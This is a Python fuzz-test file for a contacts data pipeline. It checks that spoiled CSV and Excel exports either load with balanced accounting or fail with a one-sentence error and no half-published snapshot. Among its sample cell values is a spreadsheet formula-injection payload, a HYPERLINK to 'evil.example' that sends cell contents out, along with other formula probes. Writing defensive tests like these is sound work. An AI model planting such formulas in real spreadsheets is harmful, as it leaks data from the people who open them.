"""Fuzzing the readers and the load: any input loads with balanced accounting or is one sentence.

Hypothesis makes the inputs: random bytes, valid exports cut short, mixed encodings, stray
bytes, huge fields, formulas, separators mixed within a file, duplicate and missing headers,
and workbooks with formulas and merged cells. For each input, either the load publishes a
snapshot whose accounting balances for every file, or it raises a UserError (one sentence) and
the warehouse is as it was: never another exception, never a half-published snapshot. The
number of examples is bounded so that CI stays quick; raise FUZZ_EXAMPLES to search longer.
"""

from __future__ import annotations

import copy
import os
import shutil
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipelines import warehouse
from pipelines.errors import UserError
from pipelines.load import load
from pipelines.readers import read_file
from tests.conftest import HAND_BUILT, TEST_KEY, write_csv

EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "25"))
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=True,  # the same examples on every run: a failure in CI reproduces here
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

CONTACTS = HAND_BUILT["contacts"]
NASTY_CELLS = st.sampled_from(
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "=1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "x" * 20_000,
        "Sécurité",
        "\ufffd",
        "é".encode().decode("cp1252"),
        "2021-02-30",
        "0001-01-01",
        "9999999999999999",
        "",
        " ",
        '"',
        "a;b,c\td",
        "\r",
        "\n",
    ]
)


def _csv_bytes(rows: list[list[str]], separator: str, encoding: str) -> bytes:
    lines = [separator.join(row) for row in rows]
    return ("\r\n".join(lines) + "\r\n").encode(encoding, errors="replace")


@st.composite
def mangled_exports(draw) -> bytes:
    """Return the bytes of a contacts export spoiled in a few random ways."""
    rows = copy.deepcopy(CONTACTS)
    for _ in range(draw(st.integers(0, 4))):
        row = draw(st.integers(0, len(rows) - 1))
        column = draw(st.integers(0, len(rows[0]) - 1))
        rows[row][column] = draw(NASTY_CELLS)
    if draw(st.booleans()):  # a duplicate or a missing header
        rows[0][draw(st.integers(1, len(rows[0]) - 1))] = draw(
            st.sampled_from(["", rows[0][0], "Naam", "email"])
        )
    separator = draw(st.sampled_from([",", ";", "\t"]))
    data = _csv_bytes(rows, separator, draw(st.sampled_from(["utf-8", "cp1252", "utf-16"])))
    if draw(st.booleans()):  # another separator in one line
        data += _csv_bytes([CONTACTS[1]], draw(st.sampled_from([",", ";", "|"])), "utf-8")
    if draw(st.booleans()):  # cut short anywhere
        data = data[: draw(st.integers(0, len(data)))]
    if draw(st.booleans()):  # stray bytes
        at = draw(st.integers(0, len(data)))
        data = data[:at] + draw(st.binary(min_size=1, max_size=8)) + data[at:]
    return data


def _state(wh: Path) -> tuple[str | None, list[str]]:
    """Return the current snapshot id and every file name of the warehouse."""
    current = warehouse.current(wh)
    files = (
        sorted(str(p.relative_to(wh)) for p in wh.rglob("*") if p.is_file()) if wh.exists() else []
    )
    return (current.id if current else None), files


@pytest.fixture(scope="module")
def base(tmp_path_factory) -> Path:
    """Return a warehouse holding the hand-built programme, to load spoiled files onto."""
    root = tmp_path_factory.mktemp("fuzz_base")
    for table, rows in HAND_BUILT.items():
        write_csv(root / "export" / f"{table}.csv", rows)
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("CONNECT_PSEUDONYM_KEY", TEST_KEY)
        load([root / "export"], root / "wh")
    return root / "wh"


@FUZZ
@given(data=st.binary(max_size=4096), suffix=st.sampled_from([".csv", ".xlsx"]))
def test_random_bytes_are_read_or_refused_in_one_sentence(tmp_path_factory, data, suffix):
    path = tmp_path_factory.mktemp("bytes") / f"contacts{suffix}"
    path.write_bytes(data)
    try:
        tables = read_file(path)
    except UserError as exc:
        assert str(exc).startswith(path.name) and "\n" not in str(exc)
    else:
        assert all(t.frame is not None and t.table.name == "contacts" for t in tables)


@FUZZ
@given(data=mangled_exports())
def test_a_spoiled_export_loads_balanced_or_changes_nothing(
    tmp_path_factory, base, monkeypatch, data
):
    monkeypatch.setenv("CONNECT_PSEUDONYM_KEY", TEST_KEY)
    root = tmp_path_factory.mktemp("spoiled")
    wh = root / "wh"
    shutil.copytree(base, wh)
    (root / "in").mkdir()
    (root / "in" / "contacts.csv").write_bytes(data)
    before = _state(wh)
    try:
        result = load([root / "in"], wh)
    except UserError as exc:
        assert "\n" not in str(exc) and "Traceback" not in str(exc)
        assert _state(wh) == before  # nothing published, nothing left behind
        return
    assert all(account.balanced for account in result.accounts)
    if result.snapshot_id is not None:
        assert warehouse.current(wh).id == result.snapshot_id


@FUZZ
@given(
    cells=st.lists(st.tuples(st.integers(0, 5), st.integers(0, 5), NASTY_CELLS), max_size=8),
    merge=st.booleans(),
)
def test_a_spoiled_workbook_loads_balanced_or_changes_nothing(
    tmp_path_factory, base, monkeypatch, cells, merge
):
    monkeypatch.setenv("CONNECT_PSEUDONYM_KEY", TEST_KEY)
    root = tmp_path_factory.mktemp("workbook")
    wh = root / "wh"
    shutil.copytree(base, wh)
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "contacts"
    for row in CONTACTS:
        sheet.append(row)
    for row, column, value in cells:
        sheet.cell(row=row + 1, column=column + 1, value=value)
    if merge:
        sheet.merge_cells(start_row=2, start_column=2, end_row=3, end_column=3)
    (root / "in").mkdir()
    book.save(root / "in" / "contacts.xlsx")
    before = _state(wh)
    try:
        result = load([root / "in"], wh)
    except UserError as exc:
        assert "\n" not in str(exc)
        assert _state(wh) == before
        return
    assert all(account.balanced for account in result.accounts)
